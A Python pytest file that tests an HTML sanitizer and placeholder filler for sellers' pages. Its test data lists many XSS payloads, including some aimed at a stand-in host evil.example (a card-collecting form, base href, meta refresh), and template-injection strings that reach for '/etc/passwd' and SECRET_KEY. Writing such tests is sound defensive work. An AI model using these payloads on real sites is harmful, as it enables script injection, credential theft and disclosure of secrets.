"""Sellers' HTML: allowed tags remain, everything that could act is gone, nothing is evaluated."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from wainwright.core.markup import clean, fill

VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='http://plain.example'>x</a>",
    "<a href='https://x.example' onclick=alert(1) style='color:red' id=x class=y target=_top>x</a>",
    "<p style='background:url(javascript:alert(1))' onmouseover=alert(1)>x</p>",
    "<form action=//evil.example><input name=card><button>Pay</button></form>",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example><style>*{background:url(//evil.example)}</style>",
    "<object data=x></object><embed src=x><video src=x onerror=alert(1)></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<p id=location name=cookie>x</p>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<template><img src=x onerror=alert(1)></template>",
    "<details open ontoggle=alert(1)>x</details>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<p" + " a" * 500 + "><b><i><u>" * 50,
]
ALLOWED = {"p", "br", "strong", "em", "ul", "ol", "li", "a", "h3", "h4", "blockquote"}


class Seen(HTMLParser):
    """What a browser would find in a page: each tag with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.words = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.words += data


def assert_harmless(html: str) -> None:
    for tag, attributes in Seen(html).tags:
        assert tag in ALLOWED
        assert set(attributes) <= ({"href", "rel"} if tag == "a" else set())
        if href := attributes.get("href"):
            assert href.startswith(("https://", "mailto:"))


@pytest.mark.parametrize("vector", VECTORS)
def test_t_xss_nothing_that_could_act_remains(vector: str) -> None:
    assert_harmless(clean(vector))
    assert_harmless(fill("<p>{name}</p>", {"name": vector}))
    assert_harmless(fill(vector + "{name}", {"name": vector}))


@pytest.mark.slow
@given(st.text(alphabet=st.sampled_from("<>/\"'= {}aphrefscit:&;#\x00\n!-"), max_size=80))
def test_no_text_at_all_gets_anything_else_through(text: str) -> None:
    assert_harmless(fill(text, {"a": text, "p": text}))


def test_allowed_tags_remain_as_written() -> None:
    html = (
        "<h3>Help</h3><h4>Hours</h4><p>We <strong>answer</strong> <em>daily</em>.<br></p>"
        "<ul><li>one</li></ul><ol><li>two</li></ol><blockquote>Said</blockquote>"
    )
    assert clean(html) == html


def test_links_pass_nothing_on() -> None:
    tag, attributes = Seen(clean('<a href="https://a.example/?x=1&y=2">x</a>')).tags[0]
    assert (tag, attributes["href"]) == ("a", "https://a.example/?x=1&y=2")
    assert set((attributes["rel"] or "").split()) == {"noopener", "nofollow"}
    assert 'href="mailto:help@a.example"' in clean('<a href="mailto:help@a.example">x</a>')


def test_cleaning_twice_changes_nothing_more() -> None:
    for vector in VECTORS:
        assert clean(clean(vector)) == clean(vector)


def test_known_placeholders_are_filled_with_escaped_values() -> None:
    filled = fill("<p>Hello {first_name}, {first_name}</p>", {"first_name": "<b>A & B</b>"})
    assert filled == "<p>Hello &lt;b&gt;A &amp; B&lt;/b&gt;, &lt;b&gt;A &amp; B&lt;/b&gt;</p>"


def test_unknown_placeholders_stay_as_typed() -> None:
    assert fill("<p>{nobody} {} { name }</p>", {"name": "Ada"}) == "<p>{nobody} {} { name }</p>"


@pytest.mark.parametrize(
    "text",
    [
        "{{7*7}}",
        "{{ settings.SECRET_KEY }}",
        "{% debug %}",
        "{% include '/etc/passwd' %}",
        "{0.__class__}",
        "{name.__class__.__mro__}",
        "{name!r:>1000000}",
        "${7*7}",
        "#{7*7}",
        "%(name)s",
    ],
)
def test_t_ssti_template_code_comes_out_literally(text: str) -> None:
    assert Seen(fill(f"<p>{text}</p>", {"name": "Ada"})).words == text


def test_a_filled_value_is_not_filled_again() -> None:
    assert fill("<p>{a}</p>", {"a": "{b}", "b": "secret"}) == "<p>{b}</p>"


def test_a_value_never_lands_in_an_address() -> None:
    html = fill('<a href="https://a.example/{name}">x</a>', {"name": '"onclick="alert(1)'})
    assert Seen(html).tags[0][1]["href"] == "https://a.example/%7Bname%7D"
